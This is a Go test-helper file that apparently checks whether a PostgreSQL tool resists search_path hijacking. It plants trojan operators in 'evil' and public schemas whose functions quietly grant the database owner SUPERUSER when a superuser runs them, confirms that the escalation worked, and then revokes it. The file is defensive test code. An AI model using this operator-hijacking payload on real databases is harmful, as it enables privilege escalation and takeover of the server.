package pgtest

import (
	"context"
	"fmt"
	"time"

	"github.com/jackc/pgx/v5"
)

// Hostile plants operators in a database that make its owner a superuser where
// a superuser uses them, and sets the database's search_path so that an
// unqualified one is theirs. That it works is tried before it returns.
func (d Database) Hostile(path string) {
	t := d.server.t
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	ident := func(n string) string { return pgx.Identifier{n}.Sanitize() }
	run := func(url string, statements ...string) {
		t.Helper()
		conn, err := pgx.Connect(ctx, url)
		if err != nil {
			t.Fatal(err)
		}
		defer closeConn(conn)
		for _, sql := range statements {
			if _, err := conn.Exec(ctx, sql); err != nil {
				t.Fatalf("%s: %v", sql, err)
			}
		}
	}
	run(d.AdminURL(), "GRANT CREATE ON SCHEMA public TO PUBLIC")
	run(d.URL(), append(planted(d.Role), fmt.Sprintf("ALTER DATABASE %s SET search_path = %s", ident(d.Name), path))...)
	run(d.AdminURL(), "SELECT 1.5::numeric * 2::int4, 1::int4 <> 2::int4") // a superuser who does not look after his search_path
	if !d.OwnerIsSuperuser() {
		t.Fatalf("search_path %s: what is planted does nothing to anybody", path)
	}
	d.server.Exec("ALTER ROLE " + ident(d.Role) + " NOSUPERUSER")
}

// OwnerIsSuperuser tells whether the database's owner has become a superuser.
func (d Database) OwnerIsSuperuser() (super bool) {
	t := d.server.t
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	conn, err := pgx.Connect(ctx, d.server.AdminURL("postgres"))
	if err != nil {
		t.Fatal(err)
	}
	defer closeConn(conn)
	if err := conn.QueryRow(ctx, "SELECT rolsuper FROM pg_roles WHERE rolname = $1", d.Role).Scan(&super); err != nil {
		t.Fatal(err)
	}
	return super
}

// planted are operators that run as whoever uses them, and make their owner a
// superuser where that is one. Each is a better match than PostgreSQL's own for
// the operands that the tool's statements have, or has its very name and operands.
func planted(role string) []string {
	steal := fmt.Sprintf(`IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname OPERATOR(pg_catalog.=) current_user) THEN
		EXECUTE 'ALTER ROLE %s SUPERUSER'; END IF;`, role)
	statements := []string{"CREATE SCHEMA IF NOT EXISTS evil"}
	for i, op := range []struct{ left, name, right, result, value string }{
		{"int4", "<>", "int4", "bool", "NOT ($1 OPERATOR(pg_catalog.=) $2)"},
		{"int4", "=", "int4", "bool", "$1 OPERATOR(pg_catalog.>=) $2 AND $1 OPERATOR(pg_catalog.<=) $2"},
		{"oid", "=", "oid", "bool", "$1::int8 OPERATOR(pg_catalog.=) $2::int8"},
		{"name", "=", "text", "bool", "$1::text OPERATOR(pg_catalog.=) $2"},
		{"name", "=", "name", "bool", "$1::text OPERATOR(pg_catalog.=) $2::text"},
		{"text", "=", "text", "bool", "NOT ($1 OPERATOR(pg_catalog.<>) $2)"},
		{"text", "<>", "text", "bool", "NOT ($1 OPERATOR(pg_catalog.=) $2)"},
		{"text", "~~", "text", "bool", "$1 OPERATOR(pg_catalog.~~*) $2"},
		{"numeric", "*", "int4", "numeric", "$1 OPERATOR(pg_catalog.*) $2::numeric"},
		{"numeric", "*", "numeric", "numeric", "$1 OPERATOR(pg_catalog./) (1 OPERATOR(pg_catalog./) $2)"},
		{"timestamptz", "-", "timestamptz", "interval", "pg_catalog.age($1, $2)"},
		{"timestamptz", "=", "timestamptz", "bool", "NOT ($1 OPERATOR(pg_catalog.<>) $2)"},
	} {
		for _, schema := range []string{"evil", "public"} {
			statements = append(statements,
				fmt.Sprintf("CREATE FUNCTION %s.f%d(%s, %s) RETURNS %s LANGUAGE plpgsql AS $$ BEGIN BEGIN %s EXCEPTION WHEN OTHERS THEN NULL; END; RETURN %s; END $$",
					schema, i, op.left, op.right, op.result, steal, op.value),
				fmt.Sprintf("CREATE OPERATOR %s.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = %s.f%d)", schema, op.name, op.left, op.right, schema, i))
		}
	}
	return statements
}
